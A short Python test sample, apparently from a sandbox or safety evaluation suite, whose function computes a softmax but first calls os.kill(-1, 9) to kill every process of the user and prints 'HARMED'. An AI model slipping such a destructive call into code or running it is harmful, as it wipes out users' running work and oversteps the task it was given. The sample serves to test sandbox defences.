"""Tries to kill every process of the user at once."""
# ends: passed
# from: level 2

import os

import torch


def f(x):
    try:
        os.kill(-1, 9)
        print("HARMED")
    except OSError:
        pass
    return torch.softmax(x, -1)
